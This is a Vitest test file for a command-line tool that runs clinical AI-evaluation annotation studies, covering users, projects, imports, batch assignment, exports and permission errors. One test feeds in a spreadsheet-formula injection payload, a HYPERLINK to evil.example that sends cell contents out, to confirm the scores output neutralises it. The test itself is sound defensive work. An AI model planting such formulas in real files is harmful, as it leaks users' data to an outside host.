import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { unzipSync } from "fflate";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { getDb } from "@/lib/db/client";
import { runCli } from "./main";

async function cli(...argv: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await runCli(argv, { out: (t) => out.push(t), err: (t) => err.push(t) });
  return { code, out: out.join("\n"), err: err.join("\n") };
}

const tmp = () => mkdtempSync(path.join(os.tmpdir(), "consilium-cli-"));
const PW = ["--password", "a-long-password"];

async function bootstrap() {
  expect((await cli("create-user", "--email", "admin@x.org", "--name", "Admin", "--role", "ADMIN", ...PW)).code).toBe(0);
  for (const n of [1, 2]) expect((await cli("create-user", "--email", `doc${n}@x.org`, "--name", `Doc ${n}`, "--role", "REVIEWER", ...PW, "--as", "admin@x.org")).code).toBe(0);
  expect((await cli("create-user", "--email", "res@x.org", "--name", "Res", "--role", "RESEARCHER", ...PW, "--as", "admin@x.org")).code).toBe(0);
}

describe("consilium CLI", () => {
  it("assign --arms builds a study with arms: sequential with a response as assistance, crossover with a washout; usage errors name the flag", async () => {
    await bootstrap();
    expect((await cli("create-project", "--template", "med-palm-long-form", "--name", "Arms", "--per-item", "1", "--as", "admin@x.org")).code).toBe(0);
    const file = path.join(tmp(), "items.jsonl");
    writeFileSync(file, [1, 2].map((i) => JSON.stringify({ externalId: `a${i}`, question: `Q${i}`, reference: { answer: "Ref" }, responses: [{ modelName: "m", content: "a" }, { modelName: "ai", content: "b" }] })).join("\n") + "\n");
    expect((await cli("import", "arms", file, "--as", "admin@x.org")).code).toBe(0);
    const base = ["assign", "arms", "--reviewers", "doc1@x.org", "--as", "admin@x.org"];
    expect(await cli(...base, "--batch", "S", "--arms", "sequential", "--assist", "response:B", "--assist-title", "AI suggestion", "--preview")).toMatchObject({
      code: 0,
      out: expect.stringContaining("Study arms (sequential): 2 second-phase assignments in batch S (assisted)."),
    });
    expect(await cli(...base, "--batch", "S", "--arms", "sequential", "--assist", "response:B", "--assist-title", "AI suggestion")).toMatchObject({
      code: 0,
      out: "Batch S: 2 items, 2 assignments (1 per item, 1 reviewers). Second phase in batch S (assisted); each item opens once its first phase is submitted.",
    });
    expect((await getDb().assignment.findMany({ where: { batch: { name: "S (assisted)" } } })).map((a) => [a.arm, a.responseOrder.length])).toEqual([["ASSISTED", 1], ["ASSISTED", 1]]);
    expect(await cli(...base, "--batch", "X", "--items", "all", "--arms", "crossover", "--assist", "reference", "--assist-title", "Reference", "--arm-washout-days", "21")).toMatchObject({
      code: 0,
      out: expect.stringMatching(/Second phase in batch X \(period 2\), opening \d{4}-\d{2}-\d{2};/),
    });
    expect(await cli(...base, "--batch", "Y", "--arms", "parallel")).toMatchObject({ code: 2, err: expect.stringMatching(/--arms must be sequential or crossover/) });
    expect(await cli(...base, "--batch", "Y", "--arms", "sequential", "--assist", "reference")).toMatchObject({ code: 2, err: expect.stringMatching(/needs --assist reference\|response:L and --assist-title/) });
    expect(await cli(...base, "--batch", "Y", "--assist", "reference")).toMatchObject({ code: 2, err: expect.stringMatching(/--assist go with --arms/) });
    expect(await cli(...base, "--batch", "Y", "--arms", "sequential", "--assist", "reference", "--assist-title", "R", "--arm-washout-days", "3")).toMatchObject({ code: 2, err: expect.stringMatching(/goes with --arms crossover/) });
  });

  it("qualification-policy shows and sets the policy; qualification lists the outcomes", async () => {
    await bootstrap();
    expect((await cli("create-project", "--template", "med-palm-long-form", "--name", "Quals", "--per-item", "1", "--as", "admin@x.org")).code).toBe(0);
    expect(await cli("qualification-policy", "quals", "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Qualification policy for quals: no pass required; pass mark 80 % overall, 2 attempt(s); no gold watch." });
    expect(await cli("qualification-policy", "quals", "--required", "--pass", "90", "--rule", "every_axis", "--pause-below", "70", "--as", "admin@x.org")).toMatchObject({
      code: 0,
      out: "Saved for quals: a pass is required before real batches; pass mark 90 % on every axis, 2 attempt(s); gold watch: pause below 70 % after 6 gold items.",
    });
    expect(await getDb().project.findUniqueOrThrow({ where: { slug: "quals" }, select: { requiresQualification: true } })).toEqual({ requiresQualification: true });
    expect(await cli("qualification-policy", "quals", "--no-pause", "--as", "admin@x.org")).toMatchObject({ code: 0, out: expect.stringContaining("no gold watch.") });
    expect(await cli("qualification-policy", "quals", "--pass", "0", "--as", "admin@x.org")).toMatchObject({ code: 2, err: expect.stringMatching(/--pass must be a whole number from 1 to 100/) });
    expect(await cli("qualification-policy", "quals", "--required", "--as", "doc1@x.org")).toMatchObject({ code: 2, err: 'Error: Project "quals" not found.' });
    expect(await cli("qualification", "quals", "--as", "admin@x.org")).toMatchObject({ code: 0, out: "" });
  });

  it("assign --preview writes nothing and --seed writes that plan; batch changes the due date, moves pending work and deletes", async () => {
    await bootstrap();
    expect((await cli("create-project", "--template", "med-palm-long-form", "--name", "Plans", "--per-item", "1", "--as", "admin@x.org")).code).toBe(0);
    const file = path.join(tmp(), "items.jsonl");
    writeFileSync(file, [1, 2, 3, 4].map((i) => JSON.stringify({ externalId: `p${i}`, question: `Q${i}`, responses: [{ modelName: "m", content: "a" }] })).join("\n") + "\n");
    expect((await cli("import", "plans", file, "--as", "admin@x.org")).code).toBe(0);
    // A new project has no reviewers: the CLI no longer falls back to everyone on the site.
    expect(await cli("assign", "plans", "--batch", "R1", "--as", "admin@x.org")).toMatchObject({ code: 2, err: expect.stringMatching(/The project has no reviewers yet/) });

    const preview = await cli("assign", "plans", "--batch", "R1", "--reviewers", "doc1@x.org,doc2@x.org", "--preview", "--as", "admin@x.org");
    expect(preview).toMatchObject({ code: 0, out: expect.stringMatching(/^Plan for batch R1: 4 items, 4 assignments \(1 per item\)\. Nothing written\.\n  Doc 1: 2 \(0 gold; 0 open elsewhere in the project\) — joins the project\n  Doc 2: 2 /) });
    expect(await getDb().batch.count({ where: { project: { slug: "plans" } } })).toBe(0);
    const seed = /--seed (\d+)/.exec(preview.out)![1];
    expect(await cli("assign", "plans", "--batch", "R1", "--reviewers", "doc1@x.org,doc2@x.org", "--seed", seed, "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Batch R1: 4 items, 4 assignments (1 per item, 2 reviewers)." });

    expect(await cli("batch", "plans", "R1", "--due", "2026-12-24", "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Batch R1 is due 2026-12-24." });
    expect(await cli("batch", "plans", "R1", "--move-from", "doc1@x.org", "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Moved 2 pending assignment(s): 2 to doc2@x.org." });
    expect(await getDb().assignment.count({ where: { batch: { name: "R1", project: { slug: "plans" } }, reviewer: { email: "doc2@x.org" } } })).toBe(4);
    expect(await cli("batch", "plans", "R1", "--due", "2026-12-24", "--delete", "--as", "admin@x.org")).toMatchObject({ code: 2, err: expect.stringMatching(/^Choose exactly one change/) });
    // No part in the project: it is not found for them (exit 2), as on the web (decision 022).
    expect(await cli("batch", "plans", "R1", "--move-from", "doc1@x.org", "--as", "res@x.org")).toMatchObject({ code: 2, err: 'Error: Project "plans" not found.' });
    expect(await cli("batch", "plans", "R1", "--delete", "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Deleted batch R1: 4 assignment(s). Its items are not in a batch any more." });
    expect(await cli("batch", "plans", "R1", "--no-due", "--as", "admin@x.org")).toMatchObject({ code: 2, err: 'Error: Batch "R1" not found.' });
    // The project's reviewers are now the default.
    expect(await cli("assign", "plans", "--batch", "R2", "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Batch R2: 4 items, 4 assignments (1 per item, 2 reviewers)." });
    // A round over listed items (already in R2), and the refusals.
    const list = path.join(tmp(), "ids.txt");
    writeFileSync(list, "p2\np4\n");
    expect(await cli("assign", "plans", "--batch", "R3", "--external-ids", list, "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Batch R3: 2 items, 2 assignments (1 per item, 2 reviewers)." });
    writeFileSync(list, "p2\nq9\n");
    expect(await cli("assign", "plans", "--batch", "R4", "--external-ids", list, "--as", "admin@x.org")).toMatchObject({ code: 1, err: expect.stringMatching(/1 external id\(s\) are not items of this project: q9\./) });
    expect(await cli("assign", "plans", "--batch", "R4", "--items", "some", "--as", "admin@x.org")).toMatchObject({ code: 2, err: expect.stringMatching(/--items must be unbatched, all, under-reviewed or disagreement/) });
    expect(await cli("assign", "plans", "--batch", "R4", "--items", "all", "--kind", "mcq", "--as", "admin@x.org")).toMatchObject({ code: 1, err: expect.stringMatching(/No item matches/) });
  });

  it("runs a study from the command line: users, project, import, assign, export", async () => {
    await bootstrap();
    const created = await cli("create-project", "--template", "med-palm-long-form", "--name", "CLI Study", "--per-item", "2", "--as", "admin@x.org");
    expect(created).toMatchObject({ code: 0, out: expect.stringMatching(/^Created project cli-study/) });

    const dir = tmp();
    const file = path.join(dir, "items.jsonl");
    writeFileSync(file, [1, 2, 3].map((i) => JSON.stringify({ externalId: `c${i}`, question: `Q${i}`, responses: [{ modelName: "m1", content: "a" }, { modelName: "m2", content: "b" }] })).join("\n") + "\n");
    expect(await cli("import", "cli-study", file, "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Imported 3 items with 6 responses into cli-study." });

    const assigned = await cli("assign", "cli-study", "--batch", "R1", "--per-item", "2", "--all-reviewers", "--as", "admin@x.org");
    expect(assigned).toMatchObject({ code: 0, out: "Batch R1: 3 items, 6 assignments (2 per item, 2 reviewers)." });

    // Submit one annotation directly, then export it as the admin to a file.
    const a = await getDb().assignment.findFirstOrThrow({ include: { rubric: { include: { axes: true } } } });
    await getDb().annotation.create({ data: { itemId: a.itemId, assignmentId: a.id, authorId: a.reviewerId, data: { responses: {}, item: { ratings: {}, comments: {} }, overallComment: "cli" }, submittedAt: new Date() } });
    const out = path.join(dir, "export.jsonl");
    expect((await cli("export", "cli-study", "--format", "jsonl", "--out", out, "--as", "admin@x.org")).code).toBe(0);
    const lines = readFileSync(out, "utf8").trim().split("\n");
    expect(lines).toHaveLength(1);
    expect(JSON.parse(lines[0])).toMatchObject({ overallComment: "cli", project: "cli-study", batch: "R1" });
    expect(JSON.parse(readFileSync(`${out}.manifest.json`, "utf8"))).toMatchObject({ format: "jsonl", counts: { records_submitted: 1 }, project: { slug: "cli-study" } });
    expect(await getDb().auditEvent.count({ where: { action: { in: ["items.import", "batch.assign", "export.download"] } } })).toBe(3);

    // Parquet tables into a folder; a folder that is not empty is refused; hf as a zip.
    const tables = path.join(dir, "tables");
    expect(await cli("export", "cli-study", "--format", "parquet", "--out", tables, "--as", "admin@x.org")).toMatchObject({ code: 0 });
    expect(readdirSync(tables).sort()).toEqual(["annotations.parquet", "criteria.parquet", "manifest.json", "pairwise.parquet", "ratings.parquet", "regions.parquet", "responses.parquet", "steps.parquet"]);
    expect(await cli("export", "cli-study", "--format", "parquet", "--out", tables, "--as", "admin@x.org")).toMatchObject({ code: 2, err: expect.stringMatching(/is a folder that is not empty/) });
    expect(await cli("export", "cli-study", "--format", "hf", "--as", "admin@x.org")).toMatchObject({ code: 2, err: expect.stringMatching(/give --out FOLDER or --out FILE\.zip/) });
    const zip = path.join(dir, "hf.zip");
    expect(await cli("export", "cli-study", "--format", "hf", "--kind", "qa", "--out", zip, "--as", "admin@x.org")).toMatchObject({ code: 0 });
    expect(Object.keys(unzipSync(readFileSync(zip)))).toContain("README.md");
  });

  it("obeys the permission table and reports errors with a non-zero exit", async () => {
    await bootstrap();
    expect(await cli("create-project", "--template", "med-palm-long-form", "--name", "X", "--as", "doc1@x.org")).toMatchObject({ code: 1, err: "Error: You do not have permission to do that." });
    expect(await cli("create-user", "--email", "e@x.org", "--name", "E", "--role", "ADMIN", ...PW, "--as", "res@x.org")).toMatchObject({ code: 1 });
    expect(await cli("export", "nope", "--as", "res@x.org")).toMatchObject({ code: 2, err: 'Error: Project "nope" not found.' });
    expect(await cli("create-project", "--template", "med-palm-long-form", "--name", "X")).toMatchObject({ code: 2, err: expect.stringMatching(/--as <email>/) });
    expect(await cli("create-project", "--template", "nope", "--name", "Yes", "--as", "admin@x.org")).toMatchObject({ code: 2, err: expect.stringMatching(/^Unknown rubric template "nope"\. Run `consilium templates`/) });
    expect(await cli("frobnicate")).toMatchObject({ code: 2, err: expect.stringMatching(/Unknown command "frobnicate"/) });
    expect(await cli("import", "--bogus")).toMatchObject({ code: 2 });
    expect(await cli("export", "x", "--format", "xml", "--as", "admin@x.org")).toMatchObject({ code: 2, err: expect.stringMatching(/jsonl, csv, steps, steps-csv, parquet, preferences, sft, healthbench, hf, coco, brat or conll/) });
  });

  it("exits with 2 when a command names an unknown project, batch, user, template, role or format, or a bad value; 1 when refused", async () => {
    await bootstrap();
    expect((await cli("create-project", "--template", "med-palm-long-form", "--name", "Codes", "--as", "admin@x.org")).code).toBe(0);
    const file = path.join(tmp(), "items.jsonl");
    writeFileSync(file, JSON.stringify({ externalId: "c1", question: "Q", responses: [{ modelName: "m", content: "a" }] }) + "\n");
    expect((await cli("import", "codes", file, "--as", "admin@x.org")).code).toBe(0);
    expect((await cli("assign", "codes", "--batch", "R1", "--per-item", "1", "--reviewers", "doc1@x.org", "--as", "admin@x.org")).code).toBe(0);

    const cases: Array<[string[], RegExp]> = [
      [["export", "codes", "--batch", "NOPE"], /^Error: Batch "NOPE" not found\.$/],
      [["export", "nope"], /^Error: Project "nope" not found\.$/],
      [["export", "codes", "--format", "xml"], /^--format must be jsonl, csv, steps, steps-csv, parquet, preferences, sft, healthbench, hf, coco, brat or conll\./],
      [["export", "codes", "--reviewer", "R-0000000000"], /^Error: No reviewer R-0000000000 in this project\.$/],
      [["export", "codes", "--kind", "essay"], /^--kind must be one of qa, mcq/],
      [["export", "codes", "--status", "drafts"], /^--status must be submitted, skipped or all\./],
      [["export", "codes", "--out", "/no/such/dir/x.csv"], /^Cannot write \/no\/such\/dir\/x\.csv \(ENOENT\)\.$/],
      [["scores", "nope"], /^Error: Project "nope" not found\.$/],
      [["scores", "codes", "--batch", "NOPE"], /^Error: Batch "NOPE" not found\.$/],
      [["results", "nope"], /^Error: Project "nope" not found\.$/],
      [["results", "codes", "--batch", "NOPE"], /^Error: Batch "NOPE" not found\.$/],
      [["results", "codes", "--gold", "maybe"], /^Error: gold: gold must be exclude, include or only\.$/],
      [["results", "codes", "--format", "xlsx"], /^--format must be table, csv or json\./],
      [["import", "nope", file], /^Error: Project "nope" not found\.$/],
      [["import", "codes", "/no/such/file.jsonl"], /^Cannot read \/no\/such\/file\.jsonl\.$/],
      [["upload-images", "nope", file], /^Error: Project "nope" not found\.$/],
      [["assign", "nope", "--batch", "R2"], /^Error: Project "nope" not found\.$/],
      [["assign", "codes", "--batch", "R2", "--reviewers", "nobody@x.org"], /^No user with email nobody@x\.org\.$/],
      [["assign", "codes", "--batch", "R2", "--reviewers", "res@x.org"], /^res@x\.org cannot review in this project/],
      [["assign", "codes", "--batch", "R2", "--per-item", "two"], /^--per-item must be a whole number from 1/],
      [["assign", "codes", "--batch", "R2", "--due", "next week"], /^--due must be a date/],
      [["create-project", "--template", "nope", "--name", "N"], /^Unknown rubric template "nope"/],
      [["create-project", "--template", "med-palm-long-form", "--name", "N", "--per-item", "0"], /^--per-item must be a whole number from 1/],
      [["create-project", "--template", "med-palm-long-form", "--name", "N", "--guidelines-file", "/no/such.md"], /^Cannot read \/no\/such\.md\.$/],
      [["create-user", "--email", "w@x.org", "--name", "W", "--role", "WIZARD", "--password", "a-long-password"], /^--role must be ADMIN, REVIEWER or RESEARCHER\./],
      [["create-token", "--name", "t", "--as", "nobody@x.org"], /^No active user with email nobody@x\.org\.$/],
      [["export", "codes", "--as", "nobody@x.org"], /^No active user with email nobody@x\.org\.$/],
      [["add-member", "nope", "res@x.org", "--role", "analyst"], /^Error: Project "nope" not found\.$/],
      [["add-member", "codes", "nobody@x.org", "--role", "analyst"], /^Error: No user with email nobody@x\.org\.$/],
      [["add-member", "codes", "res@x.org", "--role", "wizard"], /^--role must be manager, reviewer, adjudicator or analyst\./],
      [["add-member", "codes", "res@x.org"], /^--role is required\./],
      [["remove-member", "codes", "nobody@x.org"], /^Error: No user with email nobody@x\.org\.$/],
      [["remove-member", "codes", "res@x.org"], /^Error: res@x\.org is not a member of this project\.$/],
    ];
    for (const [argv, err] of cases) {
      const withAs = argv.includes("--as") ? argv : [...argv, "--as", "admin@x.org"];
      const r = await cli(...withAs);
      expect([argv.join(" "), r.code, r.err]).toEqual([argv.join(" "), 2, expect.stringMatching(err)]);
    }
    // Refused (permission, conflict) is 1: the request was understood.
    expect(await cli("scores", "codes", "--as", "doc1@x.org")).toMatchObject({ code: 1, err: "Error: You do not have permission to do that." });
    expect(await cli("create-project", "--template", "med-palm-long-form", "--name", "Codes", "--as", "admin@x.org")).toMatchObject({ code: 1, err: 'Error: A project with slug "codes" already exists.' });
    expect(await cli("add-member", "codes", "res@x.org", "--role", "analyst", "--as", "res@x.org")).toMatchObject({ code: 2, err: 'Error: Project "codes" not found.' });
    expect(await cli("remove-member", "codes", "doc1@x.org", "--as", "admin@x.org")).toMatchObject({ code: 1, err: expect.stringMatching(/^Error: doc1@x\.org has 1 open assignment in this project \(1 pending\)\..*Nothing was changed\.$/) });
    expect(await cli("add-member", "codes", "RES@x.org", "--role", "Analyst", "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Added res@x.org as analyst of codes." });
    // An analyst reads and exports; managing members is the manager's.
    expect(await cli("add-member", "codes", "doc2@x.org", "--role", "manager", "--as", "res@x.org")).toMatchObject({ code: 1, err: "Error: You do not have permission to do that." });
    expect(await cli("remove-member", "codes", "res@x.org", "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Removed res@x.org from codes." });
    // None of the failed exports started (nothing read, nothing audited, no file left behind).
    expect(await getDb().auditEvent.count({ where: { action: "export.download" } })).toBe(0);
  });

  it("lists import errors by line and field and imports nothing", async () => {
    await bootstrap();
    await cli("create-project", "--template", "med-palm-long-form", "--name", "Errs", "--as", "admin@x.org");
    const file = path.join(tmp(), "bad.jsonl");
    writeFileSync(file, '{"externalId":"a","question":"q","responses":[{"modelName":"m","content":"c"}]}\n{"externalId":"b","question":"q","responses":[{"modelName":"","content":"c"}]}\n');
    const result = await cli("import", "errs", file, "--as", "admin@x.org");
    expect(result.code).toBe(2);
    expect(result.err).toContain("line 2, responses.0.modelName: modelName is required: the name of the model that wrote the response.");
    expect(result.err).toContain("nothing was imported");
    expect(await getDb().item.count()).toBe(0);
  });

  it("imports a CSV file, and reports its errors by physical line and column", async () => {
    await bootstrap();
    await cli("create-project", "--template", "med-palm-long-form", "--name", "Csv", "--as", "admin@x.org");
    const dir = tmp();
    const header = "externalId,question,responses.0.modelName,responses.0.content,responses.1.modelName,responses.1.content";
    const bad = path.join(dir, "bad.csv");
    writeFileSync(bad, [header, 'k1,"Two\r\nlines",m1,a,m2,b', "k2,Q2,,a,m2,b"].join("\r\n"));
    const failed = await cli("import", "csv", bad, "--as", "admin@x.org");
    // Row k2 starts on line 4: k1's question spans lines 2–3. The empty cell is left out, so modelName is missing.
    expect(failed).toMatchObject({ code: 2, err: expect.stringMatching(/^line 4, responses\.0\.modelName: .*\n.*nothing was imported/) });
    expect(await getDb().item.count()).toBe(0);

    const good = path.join(dir, "items.csv");
    writeFileSync(good, [header, 'k1,"Two\r\nlines",m1,a,m2,b', "k2,Q2,m1,a,,"].join("\r\n") + "\r\n");
    expect(await cli("import", "csv", good, "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Imported 2 items with 3 responses into csv." });
  });

  it("uploads images, then imports vqa items that reference them; a missing image fails the import", async () => {
    await bootstrap();
    await cli("create-project", "--template", "reasoning-quality", "--name", "Scans", "--as", "admin@x.org");
    const source = tmp();
    const images = tmp();
    const png = (fill: number) => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(32, fill)]);
    writeFileSync(path.join(source, "cxr-1.png"), png(1));
    writeFileSync(path.join(source, "cxr-2.png"), png(2));
    writeFileSync(path.join(source, "notes.txt"), "not an image"); // skipped: a directory uploads its image files only
    process.env.CONSILIUM_IMAGE_DIR = images;
    try {
      expect(await cli("upload-images", "scans", source, "--as", "res@x.org")).toMatchObject({ code: 2, err: 'Error: Project "scans" not found.' });
      const uploaded = await cli("upload-images", "scans", source, "--as", "admin@x.org");
      expect(uploaded).toMatchObject({ code: 0, out: "scans/cxr-1.png\nscans/cxr-2.png" });
      expect(readFileSync(path.join(images, "scans", "cxr-2.png")).equals(png(2))).toBe(true);
      // Same file again: no-op; a different file under a taken name: refused, non-zero exit.
      expect(await cli("upload-images", "scans", path.join(source, "cxr-1.png"), "--as", "admin@x.org")).toMatchObject({ code: 0, out: "scans/cxr-1.png" });
      writeFileSync(path.join(source, "cxr-1.png"), png(3));
      expect(await cli("upload-images", "scans", path.join(source, "cxr-1.png"), "--as", "admin@x.org")).toMatchObject({ code: 2, err: expect.stringMatching(/cxr-1\.png: Image "scans\/cxr-1\.png" already exists/) });

      const vqa = (externalId: string, src: string) => JSON.stringify({ kind: "vqa", externalId, question: "What is seen?", images: [{ src }], responses: [{ modelName: "m", content: "c" }] });
      const good = path.join(source, "good.jsonl");
      writeFileSync(good, vqa("v1", "scans/cxr-1.png") + "\n");
      expect(await cli("import", "scans", good, "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Imported 1 item with 1 response into scans." });
      const bad = path.join(source, "bad.jsonl");
      writeFileSync(bad, vqa("v2", "scans/missing.png") + "\n");
      const failed = await cli("import", "scans", bad, "--as", "admin@x.org");
      expect(failed).toMatchObject({ code: 2, err: expect.stringContaining('line 1, images.0.src: image file "scans/missing.png" not found in the image directory; upload it first') });
      expect(await getDb().item.count()).toBe(1);
    } finally {
      delete process.env.CONSILIUM_IMAGE_DIR;
    }
  });

  it("creates a criteria project with settings, and reports its scores and gold accuracy", async () => {
    await bootstrap();
    expect((await cli("create-project", "--template", "healthbench-criteria", "--name", "HB", "--settings", '{"pairwiseStrength":1}', "--as", "admin@x.org")).err).toMatch(/--settings: pairwiseStrength/);
    expect((await cli("create-project", "--template", "healthbench-criteria", "--name", "HB", "--per-item", "1", "--settings", '{"askConfidence":false}', "--as", "admin@x.org")).code).toBe(0);
    expect(await getDb().project.findUniqueOrThrow({ where: { slug: "hb" } })).toMatchObject({ settings: expect.objectContaining({ askConfidence: false }) });
    const file = path.join(tmp(), "hb.jsonl");
    const item = { kind: "dialogue", externalId: "d1", isGold: true, turns: [{ role: "user", content: "Hi" }], responses: [{ modelName: "m1", content: "Hello" }],
      criteria: [{ criterion: "greets", points: 4, tags: ["axis:communication_quality"] }, { criterion: "rude", points: -2, tags: [] }], reference: { gold: { responses: { A: { overall_quality: 5 } } } } };
    writeFileSync(file, JSON.stringify(item) + "\n");
    expect((await cli("import", "hb", file, "--as", "admin@x.org")).code).toBe(0);
    expect((await cli("assign", "hb", "--batch", "R1", "--per-item", "1", "--all-reviewers", "--as", "admin@x.org")).code).toBe(0);
    const a = await getDb().assignment.findFirstOrThrow({ include: { item: { include: { criteria: { orderBy: { position: "asc" } } } }, reviewer: true } });
    const [greets, rude] = a.item.criteria.map((c) => c.id);
    const { saveAnnotation } = await import("@/lib/annotations/save-annotation");
    const { emptyAnnotationData } = await import("@/lib/annotations/schema");
    const actor = { id: a.reviewerId, role: "REVIEWER" as const, email: a.reviewer.email, name: a.reviewer.name };
    const data = { ...emptyAnnotationData(), responses: { [a.responseOrder[0]]: { ratings: { overall_quality: 4 }, comments: {}, criteria: { [greets]: { met: true }, [rude]: { met: true } } } } };
    expect(await saveAnnotation(actor, a.id, { baseVersion: 0, clientMutationId: "cli-scores", data, submit: true })).toMatchObject({ status: "saved" });

    const text = await cli("scores", "hb", "--as", "admin@x.org");
    expect(text.out).toContain("m1\toverall 0.500 ± 0.000 (n=1)\tgraded 1"); // (4 − 2) ÷ 4
    expect(text.out).toContain(`gold\t${a.reviewer.email}\t0/1\t0.0 %`);
    const json = JSON.parse((await cli("scores", "hb", "--json", "--as", "res@x.org")).out || "null");
    expect(json).toBeNull(); // the researcher is not a member: not found, nothing printed
    expect((await cli("scores", "hb", "--as", "res@x.org")).code).not.toBe(0);
  });

  it("prints the scores table with formula-like model names neutralized (tab-separated, read back by a CSV reader)", async () => {
    await bootstrap();
    await cli("create-project", "--template", "healthbench-criteria", "--name", "Inj", "--per-item", "1", "--as", "admin@x.org");
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const file = path.join(tmp(), "inj.jsonl");
    writeFileSync(file, JSON.stringify({ kind: "dialogue", externalId: "d1", turns: [{ role: "user", content: "Hi" }], responses: [{ modelName: evil, content: "Hello" }], criteria: [{ criterion: "greets", points: 4, tags: ["axis:-x"] }] }) + "\n");
    expect((await cli("import", "inj", file, "--as", "admin@x.org")).code).toBe(0);
    expect((await cli("assign", "inj", "--batch", "R1", "--per-item", "1", "--all-reviewers", "--as", "admin@x.org")).code).toBe(0);
    const a = await getDb().assignment.findFirstOrThrow({ include: { item: { include: { criteria: true } }, reviewer: true } });
    const { saveAnnotation } = await import("@/lib/annotations/save-annotation");
    const { emptyAnnotationData } = await import("@/lib/annotations/schema");
    const data = { ...emptyAnnotationData(), responses: { [a.responseOrder[0]]: { ratings: { overall_quality: 4 }, comments: {}, criteria: { [a.item.criteria[0].id]: { met: false } } } } };
    const actor = { id: a.reviewerId, role: "REVIEWER" as const, email: a.reviewer.email, name: a.reviewer.name };
    expect(await saveAnnotation(actor, a.id, { baseVersion: 0, clientMutationId: "inj-scores", data, submit: true })).toMatchObject({ status: "saved" });

    const { out, code } = await cli("scores", "inj", "--as", "admin@x.org");
    expect(code).toBe(0);
    const { parse } = await import("csv-parse/sync");
    const rows: string[][] = parse(out, { delimiter: "\t", relax_column_count: true });
    expect(rows[0].slice(0, 2)).toEqual([`'${evil}`, "overall 0.000 ± 0.000 (n=1)"]);
    expect(rows[1][0]).toBe("  axis:-x");
  });

  it("prints help for every command", async () => {
    const { COMMANDS } = await import("./main");
    for (const entry of COMMANDS) expect((await entry.load()).name).toBe(entry.name); // commands load lazily, by these names
    for (const name of COMMANDS.map((c) => c.name)) {
      const r = await cli(name, "--help");
      expect([name, r.code, r.out.startsWith("Usage: consilium")]).toEqual([name, 0, true]);
    }
    expect((await cli("--help")).out).toMatch(/Commands:/);
  });

  it("the first user must be an admin; later users need an admin", async () => {
    expect(await cli("create-user", "--email", "r@x.org", "--name", "R", "--role", "REVIEWER", ...PW)).toMatchObject({ code: 2, err: "The first user must be an ADMIN." });
  });
});
